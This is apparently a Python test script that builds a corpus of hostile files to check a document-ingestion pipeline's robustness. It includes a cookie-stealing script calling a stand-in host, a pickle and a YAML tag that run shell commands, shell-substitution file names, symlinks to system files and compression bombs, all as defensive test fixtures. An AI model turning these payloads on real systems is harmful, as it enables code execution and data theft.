"""Build a hostile corpus (every kind of bad input issue 8 names) and check how stancemap copes.

    python scripts/hostile_corpus.py DIR                    # build the corpus in DIR
    python scripts/hostile_corpus.py DIR --report           # build, run `stancemap run`
                                                            # twice, delete outputs, tally
    python scripts/hostile_corpus.py DIR --report --shared ../shared   # + ../shared/pdfs

Each :class:`Case` names the files it made and what a correct run does with them: ingest them
(and then some words must, or must never, be in the sentences), give exactly one ``errors`` row
of an expected kind, or skip them (FIFOs). :func:`tally` checks an output folder against the
cases; the tests in ``tests/reliability`` and the figures of ``docs/reliability.md`` use both.
Every sentence here was written for this script.
"""

from __future__ import annotations

import argparse
import codecs
import io
import os
import pickle
import random
import re
import shutil
import socket
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

PASSWORD = "harbour-2020"
# A password written in a broken sidecar: it must never reach any output.
SECRET = "Sekrit-Harbour-7731"
# The run's output folder, inside the corpus (it must not be ingested).
OUT_INSIDE = "stancemap-outputs"
MANY_PAGES = 3_500
BOMB_MB = 300
LONG_LINE_MB = 3
# A corpus file that would run code if anything ever unpickled or evaluated it.
PWNED = "PWNED-by-hostile-corpus"

GOOD_TEXT = (
    "{title}\n\n"
    "Quillfield District Council supports giving integrated care systems a statutory footing. "
    "The council believes joint committees have improved services for older residents. "
    "Quillfield District Council opposes transferring commissioning without local "
    "accountability. {marker} was raised by members of the scrutiny panel.\n"
)


@dataclass(frozen=True)
class Case:
    """One hostile input: the files it made and the outcome a correct run has on them.

    ``expect`` is ``ingested``, ``error`` (one errors row of a kind in ``kinds``), ``skipped``
    (neither), ``any`` (ingested or one errors row: real-world files of unknown state), or
    ``copy`` (identical to the case's first file: counted once, listed under that file). With
    ``prefix``, each of ``files`` stands for every path starting with it (a folder).
    """

    name: str
    what: str
    files: tuple[str, ...]
    expect: str
    kinds: tuple[str, ...] = ()
    contains: tuple[str, ...] = ()
    absent: tuple[str, ...] = ()
    prefix: bool = False


@dataclass
class Outcome:
    """What a run did with one case."""

    case: Case
    handled: bool
    detail: str


@dataclass
class _Builder:
    root: Path
    cases: list[Case] = field(default_factory=list)

    def write(self, rel: str, data: bytes | str) -> str:
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return rel

    def add(self, name: str, what: str, files: tuple[str, ...], expect: str,
            **kw: Any) -> None:
        self.cases.append(Case(name, what, files, expect, **kw))


# --- PDFs ---------------------------------------------------------------------------------


def pdf_pages(pages: list[list[str]], password: str | None = None) -> bytes:
    """A PDF with the given text lines on each page (optionally encrypted)."""
    from reportlab import rl_config
    from reportlab.lib import pdfencrypt
    from reportlab.pdfgen.canvas import Canvas

    rl_config.invariant = 1
    buffer = io.BytesIO()
    encrypt = pdfencrypt.StandardEncryption(password, canPrint=1) if password else None
    canvas = Canvas(buffer, encrypt=encrypt)
    for lines in pages:
        canvas.setFont("Helvetica", 10)
        y = 760.0
        for line in lines:
            canvas.drawString(72, y, line)
            y -= 14
        canvas.showPage()
    canvas.save()
    return buffer.getvalue()


def image_only_pdf() -> bytes:
    """Two pages of shapes and no text layer (a scan nobody OCRed)."""
    from reportlab import rl_config
    from reportlab.pdfgen.canvas import Canvas

    rl_config.invariant = 1
    buffer = io.BytesIO()
    canvas = Canvas(buffer)
    for _ in range(2):
        for i in range(25):
            canvas.rect(60 + i * 8, 150 + i * 22, 180, 9, fill=1)
        canvas.showPage()
    canvas.save()
    return buffer.getvalue()


def flate_bomb_pdf(inflated_mb: int) -> bytes:
    """A small PDF whose one content stream inflates to ``inflated_mb`` MB (a zip bomb)."""
    packer = zlib.compressobj(9)
    head = b"BT /F1 12 Tf 72 700 Td (Quillfield bomb page before the padding.) Tj ET\n"
    parts = [packer.compress(head)]
    chunk = b" " * (1 << 20)
    parts.extend(packer.compress(chunk) for _ in range(inflated_mb))
    parts.append(packer.flush())
    return raw_pdf(b"".join(parts), b"/Filter /FlateDecode")


def raw_pdf(content: bytes, stream_filter: bytes = b"") -> bytes:
    """A minimal one-page PDF written by hand around the content stream ``content``."""
    filters = b" " + stream_filter if stream_filter else b""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d%s >>\nstream\n" % (len(content), filters) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref)
    return bytes(out)


# --- the cases ----------------------------------------------------------------------------


def _good(title: str, marker: str) -> str:
    return GOOD_TEXT.format(title=title, marker=marker)


def _empty_and_random(b: _Builder) -> None:
    rng = random.Random(8)
    for ext in (".txt", ".pdf", ".docx", ".html"):
        rel = b.write(f"empty/zero-bytes{ext}", b"")
        b.add(f"zero-byte {ext}", f"a zero-byte {ext} file", (rel,), "error", kinds=("empty",))
    for ext in (".pdf", ".docx", ".txt"):
        rel = b.write(f"random/random-bytes{ext}", rng.randbytes(64 * 1024))
        b.add(f"random bytes {ext}", f"64 KB of random bytes named {ext}", (rel,), "error",
              kinds=("corrupt", "binary"))


def _pdfs(b: _Builder) -> None:
    good = pdf_pages([["Quillfield Health Board supports joint committees for every area.",
                       "Members of the board wrote this line for the hostile corpus."]] * 3)
    rel = b.write("pdf/truncated-half.pdf", good[: len(good) // 2])
    b.add("truncated PDF", "a valid PDF cut in half", (rel,), "error", kinds=("corrupt",))
    rel = b.write("pdf/truncated-tail.pdf", good[:-40])
    b.add("PDF without its tail", "a valid PDF missing its last 40 bytes (xref trailer)",
          (rel,), "any")
    rel = b.write("pdf/header-only.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\nnot really a pdf\n%%EOF\n")
    b.add("malformed PDF", "a PDF header followed by junk", (rel,), "error", kinds=("corrupt",))
    rel = b.write("pdf/bad-stream.pdf",
                  raw_pdf(b"\x00garbage that is not zlib", b"/Filter /FlateDecode"))
    b.add("broken Flate stream", "a content stream that is not valid zlib", (rel,), "any")
    rel = b.write("pdf/encrypted.pdf", pdf_pages(
        [["Quillfield Health Board supports a statutory footing for the partnership."]],
        password=PASSWORD))
    b.add("encrypted PDF", "an encrypted PDF and no password given", (rel,), "error",
          kinds=("encrypted",))
    rel = b.write("pdf/image-only.pdf", image_only_pdf())
    b.add("image-only PDF", "a PDF of shapes without a text layer", (rel,), "error",
          kinds=("image_only",))
    rel = b.write("pdf/many-pages.pdf",
                  pdf_pages([[f"Page {n} of the very long appendix."] for n in
                             range(1, MANY_PAGES + 1)]))
    b.add("thousands of pages", f"a PDF of {MANY_PAGES:,} pages (over corpus.max_pages)", (rel,),
          "error", kinds=("limit",))
    rel = b.write("pdf/flate-bomb.pdf", flate_bomb_pdf(BOMB_MB))
    b.add("compressed-stream bomb", f"a small PDF whose stream inflates to {BOMB_MB} MB",
          (rel,), "error", kinds=("limit",))


def _encodings(b: _Builder) -> None:
    latin = ("Quillfield Care Forum note.\n\nThe forum found the naïve façade of the old "
             "arrangements unhelpful. The forum supports a statutory footing for integrated "
             "care systems and asks for a plan written in plain English.\n")
    rel = b.write("text/latin-1.txt", latin.encode("latin-1"))
    b.add("latin-1 text", "a text file in ISO-8859-1", (rel,), "ingested",
          contains=("naïve façade",))
    cp1252 = ("Quillfield Council briefing.\n\nThe council’s “Harbour Care” fund of €4 million "
              "– agreed last spring – supports closer joint working. The council welcomes "
              "the proposals and will respond before the deadline.\n")
    rel = b.write("text/cp1252.txt", cp1252.encode("cp1252"))
    b.add("cp1252 text", "a text file in Windows-1252 (curly quotes, euro sign)", (rel,),
          "ingested", contains=("council’s “Harbour Care” fund of €4 million",))
    utf16 = ("Ribera Care Collaborative response.\n\nSeñora Muñoz of the Ribera Care "
             "Collaborative welcomes closer collaboration across providers. The collaborative "
             "opposes any change that weakens local accountability.\n")
    rel = b.write("text/utf-16-bom.txt", utf16.encode("utf-16"))
    b.add("UTF-16 with BOM", "a text file in UTF-16 with a byte-order mark", (rel,), "ingested",
          contains=("Señora Muñoz",))


HTML = """<!DOCTYPE html><html><head><title>Harbourside Care Forum note</title>
<script>var stolen = "SCRIPTMARKER"; fetch("https://example.invalid/" + document.cookie);</script>
<style>body::after { content: "STYLEMARKER"; }</style></head>
<body onload="alert('ONLOADMARKER')"><h1>Harbourside Care Forum note</h1>
<p onclick="alert('CLICKMARKER')">The Harbourside Care Forum supports closer joint working
between councils and NHS bodies across the area.</p>
<p>Members typed &lt;script&gt;alert("LITERALMARKER")&lt;/script&gt; into the feedback form.</p>
<img src="x" onerror="alert('IMGMARKER')"><a href="javascript:alert('HREFMARKER')">Read more</a>
<noscript>NOSCRIPTMARKER</noscript><iframe src="javascript:alert('FRAMEMARKER')"></iframe>
<script type="module">import("IMPORTMARKER")</script>
</body></html>
"""
SCRIPT_MARKERS = ("SCRIPTMARKER", "STYLEMARKER", "ONLOADMARKER", "CLICKMARKER", "IMGMARKER",
                  "HREFMARKER", "FRAMEMARKER", "IMPORTMARKER")
# The file name a hostile corpus uses to get markup into the report's errors section.
MARKUP_NAME = "<img src=x onerror=alert(1)>.txt"
MARKUP_TITLE = '<script>alert("TITLEMARKER")</script> Quillfield response'


def _markup(b: _Builder) -> None:
    rel = b.write("html/scripts-and-handlers.html", HTML)
    b.add("HTML with scripts", "HTML with <script>, <style>, on* handlers, javascript: links",
          (rel,), "ingested", contains=("Harbourside Care Forum supports",),
          absent=SCRIPT_MARKERS)
    rel = b.write("markup/markup-title.txt", _good(MARKUP_TITLE, "The markup title"))
    b.add("markup in a title", "a text whose first line (its title) is a <script> tag", (rel,),
          "ingested", contains=("TITLEMARKER",))
    rel = b.write(f"markup/{MARKUP_NAME}", b"")
    b.add("markup in a file name", "an empty file named like an <img onerror> tag", (rel,),
          "error", kinds=("empty",))


def _long_line(b: _Builder) -> None:
    word = "z" * 49 + " "  # words, not one token: see docs/reliability.md on long tokens
    line = ("Quillfield opening sentence on one enormous line. "
            + word * ((LONG_LINE_MB << 20) // len(word))
            + " The closing sentence names Quillfield again.")
    rel = b.write("text/one-long-line.txt", line)
    b.add("one line of several MB", f"a {LONG_LINE_MB} MB text file on a single line", (rel,),
          "ingested", contains=("Quillfield opening sentence on one enormous line.",))


def _names(b: _Builder) -> None:
    names = ["names/with spaces in the name.txt", "names/accénts café–naïve.txt",
             "names/quote's \"double\" `tick`.txt", "names/-leading-dash.txt",
             "names/--looks-like-an-option.md", "names/semi;colon $(echo no) & amp.txt"]
    for i, rel in enumerate(names):
        b.write(rel, _good(f"Quillfield name test {i}", f"Name marker {i}"))
        b.add(f"name: {Path(rel).name}", "a file name with spaces, accents, quotes, dashes or "
              "shell characters", (rel,), "ingested", contains=(f"Name marker {i}",))


def _links_and_devices(b: _Builder) -> None:
    links = {"links/outside.txt": "/etc/passwd", "links/dev-zero.txt": "/dev/zero",
             "links/dev-urandom.pdf": "/dev/urandom", "links/parent.md": "../../../../etc/hosts",
             "links/root-folder": "/", "links/loop.txt": "loop.txt"}
    for rel, target in links.items():
        (b.root / rel).parent.mkdir(parents=True, exist_ok=True)
        (b.root / rel).symlink_to(target)
        b.add(f"link to {target}", "a symbolic link (never followed)", (rel,), "error",
              kinds=("link",))
    fifo = b.root / "links/named-pipe.txt"
    os.mkfifo(fifo)
    b.add("named pipe", "a FIFO named .txt (reading it would block forever)",
          ("links/named-pipe.txt",), "error", kinds=("not_regular",))
    here = os.getcwd()
    os.chdir(b.root / "links")  # a socket's path must be short: bind a relative one
    try:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.bind("a-socket.txt")
    finally:
        os.chdir(here)
    b.add("socket", "a UNIX socket named .txt", ("links/a-socket.txt",), "error",
          kinds=("not_regular",))
    outside = b.root.parent / f"{b.root.name}-outside"
    outside.mkdir(exist_ok=True)
    (outside / "outside.txt").write_text(_good("Outside the corpus", "Hard link marker"),
                                         encoding="utf-8")
    os.link(outside / "outside.txt", b.root / "links/hard-link.txt")
    b.add("hard link to a file outside the corpus", "a second name of a file (ingested: a hard "
          "link is the file itself, see docs/reliability.md)", ("links/hard-link.txt",),
          "ingested", contains=("Hard link marker",))


class _Payload:
    """Pickles to a call that creates the PWNED file: proof that nothing unpickles input."""

    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, ...]]:
        return (os.system, (f"touch '{self.target}'",))


def _code(b: _Builder) -> None:
    rel = b.write("code/model.pkl", pickle.dumps(_Payload(b.root / PWNED)))
    b.add("pickle payload", "a pickle that runs a command when loaded", (rel,), "error",
          kinds=("unsupported",))
    rel = b.write("code/with-yaml-sidecar.txt", _good("Quillfield sidecar", "Sidecar marker"))
    b.write("code/with-yaml-sidecar.txt.meta.yaml",
            f"title: !!python/object/apply:os.system [\"touch '{b.root / PWNED}'\"]\n")
    b.add("YAML sidecar with a python tag", "a sidecar asking YAML to run a command", (rel,),
          "error", kinds=("sidecar",))


# --- round two (issue 18) -------------------------------------------------------------------

HIDDEN_MARKERS = ("HIDDENATTRMARKER", "DISPLAYNONEMARKER", "VISIBILITYMARKER", "MDSCRIPTMARKER",
                  "MDSTYLEMARKER", "MDCOMMENTMARKER")
# Markdown a rendered report.md must show as text: an image from anywhere, a javascript: link.
MD_INJECTION = ("![tracker](https://tracker.invalid/pixel.png) [click me](javascript:alert(1)) "
                "<b>raw</b> Quillfield")
PATH_MAX = 4096


def _names_round_two(b: _Builder) -> None:
    rel = "names/latin-\\xe9t\\xe9.txt"  # as stored: the byte 0xE9 is not UTF-8
    raw = os.fsencode(b.root / "names") + b"/latin-\xe9t\xe9.txt"
    with open(raw, "wb") as fh:
        fh.write(_good("Quillfield name test bytes", "Byte name marker").encode("utf-8"))
    b.add("name: bytes that are not UTF-8", "a file name with a Latin-1 byte (not UTF-8)",
          (rel,), "ingested", contains=("Byte name marker",))
    rel = b.write("names/![pixel](x.png) [a](javascript:alert(1)).txt", b"")
    b.add("markdown in a file name", "an empty file named like a Markdown image and link",
          (rel,), "error", kinds=("empty",))
    rel = b.write("markup/markdown-title.txt", _good(MD_INJECTION, "The markdown title"))
    b.add("markdown in a title", "a text whose title is a Markdown image, a javascript: link "
          "and raw HTML", (rel,), "ingested", contains=("Quillfield",))


def _deep_tree(b: _Builder) -> None:
    """Folders nested past PATH_MAX (made through folder descriptors: no path is that long)."""
    part = "d" * 200
    fd = os.open(b.root, os.O_RDONLY)
    try:
        depth = 0
        while len(os.fsencode(b.root)) + (len(part) + 1) * depth < PATH_MAX + 400:
            os.mkdir(part, dir_fd=fd)
            inner = os.open(part, os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd, depth = inner, depth + 1
        inner = os.open("deepest.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(inner, _good("Deep", "Deep marker").encode("utf-8"))
        os.close(inner)
    finally:
        os.close(fd)
    b.add("folders deeper than PATH_MAX", f"{depth} nested folders of 200-character names",
          (part + "/",), "error", kinds=("unreadable",), prefix=True)


def _sidecars_round_two(b: _Builder) -> None:
    rel = b.write("sidecars/broken-yaml.txt", _good("Quillfield broken sidecar", "Broken yaml"))
    b.write("sidecars/broken-yaml.txt.meta.yaml",
            f'title: Harbour note\npassword: "{SECRET}\nauthor_org: [unclosed\n')
    b.add("sidecar syntax error next to a password", "a sidecar whose YAML error would quote "
          "the password", (rel,), "error", kinds=("sidecar",))
    rel = b.write("sidecars/impossible-date.txt", _good("Quillfield date", "Impossible date"))
    b.write("sidecars/impossible-date.txt.meta.yaml", "date: 2020-02-30\n")
    b.add("impossible sidecar date", "a sidecar dated 30 February", (rel,), "error",
          kinds=("sidecar",))
    rel = b.write("sidecars/far-future.txt", _good("Quillfield future", "Far future"))
    b.write("sidecars/far-future.txt.meta.yaml", "date: 9999-12-31\n")
    b.add("sidecar date in year 9999", "a sidecar date outside the plausible years", (rel,),
          "error", kinds=("sidecar",))
    rel = b.write("sidecars/list-title.txt", _good("Quillfield list", "List title"))
    b.write("sidecars/list-title.txt.meta.yaml", "title: [one, two]\n")
    b.add("sidecar value of the wrong type", "a sidecar title that is a list", (rel,), "error",
          kinds=("sidecar",))
    rel = b.write("sidecars/orphan.pdf.meta.yaml", "title: Nobody's sidecar\n")
    b.add("orphan sidecar", "a sidecar with no document next to it", (rel,), "error",
          kinds=("sidecar",))
    rel = b.write("sidecars/year-one.txt",
                  "1 January 0001\n\n" + _good("Quillfield year one", "Year one marker"))
    b.add("text dated year 1", "a text whose date line is 1 January 0001 (ingested undated)",
          (rel,), "ingested", contains=("Year one marker",))


def _encodings_round_two(b: _Builder) -> None:
    body = ("<p>Señora Muñoz of the Ribera Care Collaborative supports closer joint working "
            "across the area.</p>")
    for charset in ("utf-16", "shift_jis"):
        rel = b.write(f"html/declares-{charset}.html",
                      f'<html><head><meta charset="{charset}"><title>Ribera note</title></head>'
                      f"<body>{body}</body></html>")
        b.add(f"UTF-8 HTML declaring {charset}", f"UTF-8 bytes under <meta charset={charset}>",
              (rel,), "ingested", contains=("Señora Muñoz",))
    text = ("Quillfield Care Forum note.\n\nThe forum found the naïve façade of the old "
            "arrangements unhelpful and supports a statutory footing.\n").encode()
    line = "The council’s “Harbour Care” fund supports closer joint working.\n"
    rel = b.write("text/bom-plus-cp1252-line.txt",
                  codecs.BOM_UTF8 + text + line.encode("cp1252"))
    b.add("UTF-8 BOM with one cp1252 line", "UTF-8 with a BOM and one line in Windows-1252",
          (rel,), "ingested", contains=("naïve façade", "council’s “Harbour Care” fund"))
    page = _good("Quillfield repeated page", "Repeated page marker")
    rel = b.write("text/page-repeated.txt", "\f".join([page] * 40))
    b.add("one page repeated 40 times", "the same page 40 times between form feeds", (rel,),
          "ingested", contains=("Repeated page marker",))


HIDDEN_HTML = """<html><head><title>Harbourside hidden text</title></head><body>
<p>The Harbourside Care Forum welcomes joint committees across the area.</p>
<p hidden>HIDDENATTRMARKER supports nothing.</p>
<div style="color: red; display : none">DISPLAYNONEMARKER opposes everything.</div>
<span style="visibility:hidden">VISIBILITYMARKER</span>
</body></html>
"""
HIDDEN_MD = """# Harbourside Markdown note

The Harbourside Care Forum supports a statutory footing for integrated care systems.

<script>var x = "MDSCRIPTMARKER";</script>
<style>p::after { content: "MDSTYLEMARKER" }</style>
<!-- MDCOMMENTMARKER opposes the proposals -->
The forum <b>welcomes</b> the proposals.
"""


def _hidden_and_junk(b: _Builder) -> None:
    rel = b.write("html/hidden-text.html", HIDDEN_HTML)
    b.add("hidden HTML text", "hidden, display:none and visibility:hidden elements", (rel,),
          "ingested", contains=("welcomes joint committees",), absent=HIDDEN_MARKERS)
    rel = b.write("text/script-in-markdown.md", HIDDEN_MD)
    b.add("script in Markdown", "raw <script>, <style> and a comment in Markdown", (rel,),
          "ingested", contains=("forum welcomes the proposals",), absent=HIDDEN_MARKERS)
    rel = b.write("junk/.hidden-notes.txt", _good("Hidden", "Hidden file marker"))
    b.write("junk/.git/config", "[core]\n")
    b.add("hidden file", "a file and a folder whose names start with a dot (skipped)", (rel,),
          "skipped")
    rel = b.write("copies/a-listed.txt", _good("Quillfield copy", "Identical copy marker"))
    copy = b.write("copies/b-copy.txt", _good("Quillfield copy", "Identical copy marker"))
    b.add("identical copy", "two files with the same bytes", (rel, copy), "copy")


def docx_without_core() -> bytes:
    """A Word document without ``docProps/core.xml`` (python-docx would call it "Word
    Document")."""
    import docx

    document = docx.Document()
    document.add_paragraph("Quillfield Health Board supports a statutory footing for systems.")
    document.add_paragraph("The board wrote this paragraph for the hostile corpus.")
    buffer = io.BytesIO()
    document.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "docProps/core.xml":
                continue
            if item.filename == "_rels/.rels":
                data = re.sub(rb"<Relationship [^>]*core-properties[^>]*/>", b"", data)
            if item.filename == "[Content_Types].xml":
                data = re.sub(rb"<Override [^>]*core\.xml[^>]*/>", b"", data)
            target.writestr(item, data)
    return out.getvalue()


def spreadsheet_named_docx() -> bytes:
    """An Office package whose main part is a spreadsheet, named .docx."""
    types = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
             'content-types"><Default Extension="rels" ContentType="application/vnd.openxml'
             'formats-package.relationships+xml"/><Default Extension="xml" ContentType='
             '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application'
             '/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>')
    rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxml'
            'formats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook'
            '.xml"/></Relationships>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        target.writestr("[Content_Types].xml", types)
        target.writestr("_rels/.rels", rels)
        target.writestr("xl/workbook.xml", "<workbook/>")
    return out.getvalue()


def _office_and_bombs(b: _Builder) -> None:
    rel = b.write("docx/no-core-properties.docx", docx_without_core())
    b.add("DOCX without core.xml", "a Word document without core properties", (rel,),
          "ingested", contains=("statutory footing for systems",))
    rel = b.write("docx/spreadsheet.docx", spreadsheet_named_docx())
    b.add("spreadsheet named .docx", "an Office package that is not a Word document", (rel,),
          "error", kinds=("corrupt",), absent=("object at 0x",))
    packer = zlib.compressobj(9)
    bomb = b"".join([packer.compress(b" " * (1 << 20)) for _ in range(BOMB_MB)]) + packer.flush()
    rel = b.write("pdf/nested-filter-bomb.pdf",
                  raw_pdf(zlib.compress(bomb, 9), b"/Filter [/FlateDecode /FlateDecode]"))
    b.add("bomb in two Flate filters", f"a stream inflating twice to {BOMB_MB} MB", (rel,),
          "error", kinds=("limit",))
    rel = b.write("pdf/hex-wrapped-bomb.pdf",
                  raw_pdf(bomb.hex().encode() + b">", b"/Filter [/ASCIIHexDecode /FlateDecode]"))
    b.add("bomb wrapped in ASCIIHex", f"a hex-encoded Flate stream inflating to {BOMB_MB} MB",
          (rel,), "error", kinds=("limit",))


def output_inside_case(b: _Builder) -> None:
    """The run's own output folder inside the corpus: never ingested (see :func:`_report`)."""
    b.add("--out inside the corpus", "the run writes its outputs into a folder of the corpus",
          (OUT_INSIDE + "/",), "skipped", prefix=True)


def _good_documents(b: _Builder) -> None:
    for i, org in enumerate(("Quillfield District Council", "Larkmoor Hospitals Trust")):
        rel = b.write(f"good/response-{i}.txt", _good(f"{org} consultation response",
                                                      f"Good marker {i}"))
        b.add(f"ordinary document {i}", "an ordinary text response", (rel,), "ingested",
              contains=(f"Good marker {i}",))


def _shared_pdfs(b: _Builder, shared: Path) -> None:
    pdfs = sorted((shared / "pdfs").glob("*.pdf"))
    for pdf in pdfs:
        rel = f"shared/{pdf.name}"
        (b.root / "shared").mkdir(exist_ok=True)
        shutil.copyfile(pdf, b.root / rel)
        b.add(f"shared: {pdf.name}", "a real-world PDF from ../shared/pdfs", (rel,), "any")
    for pdf in [p for p in pdfs if p.stat().st_size > 1024][:3]:
        data = pdf.read_bytes()
        rel = b.write(f"shared/cut-{pdf.name}", data[: len(data) // 3])
        b.add(f"shared cut: {pdf.name}", "a real-world PDF cut to a third", (rel,), "error",
              kinds=("corrupt",))


def build(root: Path, shared: Path | None = None) -> list[Case]:
    """Write the hostile corpus into ``root`` (created; must be empty) and return its cases."""
    root.mkdir(parents=True, exist_ok=True)
    if any(root.iterdir()):
        raise SystemExit(f"{root} is not empty")
    b = _Builder(root)
    for part in (_good_documents, _empty_and_random, _pdfs, _encodings, _markup, _long_line,
                 _names, _links_and_devices, _code, _names_round_two, _deep_tree,
                 _sidecars_round_two, _encodings_round_two, _hidden_and_junk, _office_and_bombs,
                 output_inside_case):
        part(b)
    if shared is not None and (shared / "pdfs").is_dir():
        _shared_pdfs(b, shared)
    return b.cases


# --- checking a run -----------------------------------------------------------------------


def tally(cases: list[Case], out: Path) -> list[Outcome]:
    """Check the output folder ``out`` of a run on the corpus against each case."""
    from pipeline.io import OutputStore

    store = OutputStore(out)
    documents = store.read_table("documents").to_pylist()
    errors = [e for e in store.read_table("errors").to_pylist() if e["stage"] == "ingest"]
    doc_of = {d["source_path"]: d["doc_id"] for d in documents}
    sentences = store.read_table("sentences", set(doc_of.values()))
    text_of: dict[str, list[str]] = {}
    for row in sentences.select(["doc_id", "text"]).to_pylist():
        text_of.setdefault(row["doc_id"], []).append(row["text"])
    errors_of: dict[str, list[dict[str, object]]] = {}
    for row in errors:
        errors_of.setdefault(str(row["source_path"]), []).append(row)
    return [_check(case, doc_of, errors_of, text_of) for case in cases]


def _check(case: Case, doc_of: dict[str, str], errors_of: dict[str, list[dict[str, object]]],
           text_of: dict[str, list[str]]) -> Outcome:
    problems: list[str] = []
    details: list[str] = []
    if case.expect == "copy":
        listed, *copies = case.files
        if listed not in doc_of:
            problems.append(f"{listed} not listed")
        problems += [f"{c}: listed or failed" for c in copies if c in doc_of or c in errors_of]
        detail = "; ".join(problems) or f"listed once, as {listed}"
        return Outcome(case, not problems, detail)
    for rel in case.files:
        if case.prefix:
            errs = [e for path, rows in errors_of.items() if path.startswith(rel) for e in rows]
            ingested = any(path.startswith(rel) for path in doc_of)
        else:
            errs = errors_of.get(rel, [])
            ingested = rel in doc_of
        if errs:
            details.append(f"{errs[0]['kind']}: {errs[0]['message']}")
        elif ingested:
            details.append("ingested")
        else:
            details.append("skipped")
        expect = case.expect
        if expect == "any":
            expect = "error" if errs else "ingested"
        if expect == "ingested":
            if errs or not ingested:
                problems.append(f"{rel} not ingested")
                continue
            text = " ".join(text_of.get(doc_of[rel], []))
            problems += [f"{rel}: {w!r} missing" for w in case.contains if w not in text]
            problems += [f"{rel}: {w!r} leaked" for w in case.absent if w in text]
        elif expect == "error":
            if len(errs) != 1 or ingested:
                problems.append(f"{rel}: {len(errs)} error rows, ingested={ingested}")
            elif case.kinds and errs[0]["kind"] not in case.kinds:
                problems.append(f"{rel}: kind {errs[0]['kind']} not in {case.kinds}")
            elif not str(errs[0]["message"]).strip():
                problems.append(f"{rel}: empty message")
            problems += [f"{rel}: {w!r} in the message" for w in case.absent
                         if w in str(errs[0]["message"])]
        elif errs or ingested:
            problems.append(f"{rel}: expected to be skipped")
    detail = "; ".join(problems) if problems else "; ".join(details)
    return Outcome(case, not problems, detail)


def secrets_found(out: Path, *texts: str) -> list[str]:
    """Where :data:`SECRET` appears: any table, any text file of ``out``, or ``texts`` (the
    run's output streams)."""
    from pipeline.io import OutputStore
    from pipeline.schema import TABLES

    store = OutputStore(out)
    found = [name for name in TABLES if SECRET in str(store.read_table(name).to_pylist())]
    found += [str(p.relative_to(out)) for p in out.rglob("*")
              if p.is_file() and p.suffix in {".md", ".html", ".json"}
              and SECRET in p.read_text(encoding="utf-8", errors="replace")]
    return found + [f"output stream {i}" for i, text in enumerate(texts) if SECRET in text]


# Per-document tables and corpus-level outputs a restore check deletes (one part of each,
# from different documents, so no deletion restores another).
PART_TABLES = ("documents", "pages", "sentences", "entities", "stances", "positions")
CORPUS_OUTPUTS = ("organisations.parquet", "arguments.parquet", "clusters.parquet",
                  "comparison.parquet", "report.html", "report.md")


def restore_check(corpus: Path, out: Path, env: dict[str, str] | None = None) -> list[Outcome]:
    """Delete one part of every per-document table (each from another document), one
    ``errors`` part and every corpus-level output, run again, and check each came back
    identical (rows without timestamps, reports without times of day)."""
    from pipeline.io import OutputStore

    store = OutputStore(out)
    before = _restorable(out)
    doc_ids = sorted(store.part_keys("documents") & store.part_keys("positions"))
    deleted: list[tuple[str, Path]] = []
    for table, doc_id in zip(PART_TABLES, doc_ids, strict=False):
        deleted.append((f"{table} part", store.table_path(table) / f"{doc_id}.parquet"))
    errors = sorted(store.part_keys("errors"))
    if errors:
        deleted.append(("errors part", store.table_path("errors") / f"{errors[0]}.parquet"))
    deleted += [(name, out / name) for name in CORPUS_OUTPUTS]
    for _, path in deleted:
        path.unlink()
    proc, _, _ = run_stancemap(corpus, out, env=env)
    after = _restorable(out)
    outcomes = []
    for what, path in deleted:
        rel = str(path.relative_to(out))
        same = path.exists() and after.get(rel) == before.get(rel)
        detail = "restored, identical" if same else ("not restored" if not path.exists()
                                                     else "restored, different")
        case = Case(f"deleted {what}", f"{rel} deleted, then a run", (rel,), "restored")
        outcomes.append(Outcome(case, same and proc.returncode == 0, detail))
    return outcomes


def _restorable(out: Path) -> dict[str, object]:
    """Every output file's content: parquet rows without timestamps, reports without times
    of day."""
    import pyarrow.parquet as pq

    volatile = {"ingested_at", "occurred_at"}
    found: dict[str, object] = {}
    for path in out.rglob("*"):
        rel = str(path.relative_to(out))
        if rel.startswith(("_", ".")) or not path.is_file():
            continue
        if path.suffix == ".parquet":
            table = pq.read_table(path)
            keep = [c for c in table.column_names if c not in volatile]
            found[rel] = sorted(map(repr, table.select(keep).to_pylist()))
        elif path.suffix in {".md", ".html"}:
            # Times of day: when the report was generated, when each error occurred.
